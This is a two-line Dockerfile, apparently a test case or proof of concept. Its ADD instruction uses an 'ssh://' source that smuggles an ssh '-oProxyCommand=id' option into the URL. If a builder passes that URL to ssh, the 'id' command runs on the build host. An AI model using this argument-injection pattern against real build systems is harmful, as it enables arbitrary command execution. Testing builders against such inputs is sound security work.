FROM scratch
ADD ssh://-oProxyCommand=id/x /
